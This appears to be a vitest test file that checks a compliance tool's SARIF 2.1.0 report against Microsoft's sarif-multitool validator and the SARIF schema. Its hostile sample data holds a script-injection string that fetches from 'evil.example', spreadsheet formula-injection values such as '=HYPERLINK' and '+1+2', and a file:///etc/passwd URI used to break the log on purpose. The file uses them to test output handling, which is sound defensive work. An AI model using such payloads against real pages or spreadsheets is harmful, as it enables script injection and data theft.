// results.sarif checked by Microsoft's SARIF validator (sarif-multitool, a real binary from npm) and by the SARIF 2.1.0 JSON schema.
import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Assessment } from '../../../src/model/assessment.js';
import { writeSarif } from '../../../src/render/sarif.js';
import { compileSchemaFile } from '../../helpers/json-schema.js';
import { tempDir } from '../sample.js';
import { hostileAssessment } from './hostile-sample.js';

const require = createRequire(import.meta.url);
/** The platform binary the @microsoft/sarif-multitool package resolves to (Linux, macOS or Windows build). */
const MULTITOOL = require('@microsoft/sarif-multitool') as string;
/** The SARIF 2.1.0 JSON schema Microsoft ships beside the validator. */
const SCHEMA = join(dirname(MULTITOOL), 'sarif-2.1.0.json');

interface SarifLog {
  runs: {
    tool: {
      driver: {
        rules: { id: string; properties: { title: { zh: string; en: string } }; help?: { text: string } }[];
      };
    };
    results: {
      ruleId: string;
      level: string;
      suppressions?: { justification: string }[];
      locations: {
        physicalLocation?: { artifactLocation: { uri: string } };
        logicalLocations: { fullyQualifiedName: string }[];
        properties: { jsonPath: string };
      }[];
    }[];
  }[];
}

interface Finding {
  ruleId: string;
  level?: string;
}

/** Runs `Sarif.Multitool validate` and returns what it found (its own SARIF log). */
async function multitool(file: string): Promise<Finding[]> {
  const out = `${file}.validation.sarif`;
  await promisify(execFile)(
    MULTITOOL,
    ['validate', file, '--output', out, '--log', 'ForceOverwrite', '--quiet'],
    {
      // The .NET runtime inside the binary needs no ICU in invariant mode (a fresh Debian machine may lack libicu).
      env: { ...process.env, DOTNET_SYSTEM_GLOBALIZATION_INVARIANT: '1' },
      timeout: 120_000,
    },
  );
  const log = JSON.parse(await readFile(out, 'utf8')) as { runs: { results: Finding[] }[] };
  return log.runs[0]!.results;
}

function schemaValidator() {
  return compileSchemaFile(SCHEMA);
}

let assessment: Assessment;
let file: string;
let log: SarifLog;

beforeAll(async () => {
  assessment = await hostileAssessment();
  const waived = assessment.results.find((r) => r.status === 'fail' && r.offenders.length === 0)!;
  waived.status = 'waived';
  waived.waiver = {
    id: 'W-7',
    justification: 'Accepted until the migration',
    approver: 'CISO',
    expires: '2027-01-01',
  };
  file = join(await tempDir('sarif'), 'results.sarif');
  await writeSarif(assessment, file, { lang: 'zh', documentId: 'd'.repeat(64), files: [] });
  log = JSON.parse(await readFile(file, 'utf8')) as SarifLog;
}, 60_000);

describe('SARIF 2.1.0', () => {
  it('passes sarif-multitool validate with no error (only its advice to add line regions)', async () => {
    const findings = await multitool(file);
    expect(findings.filter((f) => f.level === 'error')).toEqual([]);
    // SARIF2017 asks for a line region; a snapshot object is addressed by a JSON path instead, so none is given.
    expect([...new Set(findings.map((f) => f.ruleId))].filter((id) => id !== 'SARIF2017')).toEqual([]);
  }, 120_000);

  it('validates against the SARIF 2.1.0 JSON schema', async () => {
    const validate = await schemaValidator();
    expect(validate(log), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
  });

  it('fails both validators when the log is broken', async () => {
    const validate = await schemaValidator();
    const broken = structuredClone(log) as unknown as { runs: { results: Record<string, unknown>[] }[] };
    broken.runs[0]!.results[0]!.level = 'severe';
    expect(validate(broken)).toBe(false);
    // An absolute URI under a uriBaseId is an error for the multitool (SARIF1004).
    const badUri = structuredClone(log);
    badUri.runs[0]!.results[0]!.locations[0]!.physicalLocation = {
      artifactLocation: { uri: 'file:///etc/passwd' },
    };
    (
      badUri.runs[0]!.results[0]!.locations[0]!.physicalLocation.artifactLocation as Record<string, string>
    ).uriBaseId = 'PACKROOT';
    const badFile = `${file}.bad.sarif`;
    await writeFile(badFile, JSON.stringify(badUri));
    const findings = await multitool(badFile);
    expect(findings.filter((f) => f.level === 'error').map((f) => f.ruleId)).toContain('SARIF1004');
  }, 120_000);

  it('has one run, a rule per requirement with both languages, a result per fail and error', () => {
    expect(log.runs).toHaveLength(1);
    const run = log.runs[0]!;
    expect(run.tool.driver.rules.map((r) => r.id)).toEqual(assessment.results.map((r) => r.id));
    const first = run.tool.driver.rules[0]!;
    expect(first.properties.title).toEqual(assessment.results[0]!.title);
    const failing = assessment.results.filter((r) => ['fail', 'error', 'waived'].includes(r.status));
    expect(run.results.map((r) => r.ruleId)).toEqual(failing.map((r) => r.id));
    for (const r of run.results) {
      const status = assessment.results.find((x) => x.id === r.ruleId)!.status;
      expect(r.level).toBe(status === 'error' ? 'warning' : 'error');
    }
    expect(run.results.find((r) => r.suppressions)?.suppressions?.[0]?.justification).toContain('W-7');
  });

  it('gives each offending object a logical namespace/kind/name and the snapshot file with a JSON path', () => {
    const hostile = assessment.results.find((r) => r.offenders.some((o) => o.name.startsWith('=HYPERLINK')))!;
    const result = log.runs[0]!.results.find((r) => r.ruleId === hostile.id)!;
    expect(result.locations).toHaveLength(hostile.offenders.length);
    const names = result.locations.map((l) => l.logicalLocations[0]!.fullyQualifiedName);
    expect(names).toContain(`payments/Pod/+1+2`);
    expect(names).toContain(`=ns/Pod/<script>fetch('http://evil.example/x')</script>`);
    for (const l of result.locations) {
      expect(l.physicalLocation?.artifactLocation.uri).toBe('snapshot/kubernetes/pods.json');
      expect(l.properties.jsonPath).toMatch(/^\$\.items\[\?\(@\.metadata\.namespace==/);
    }
  });
});
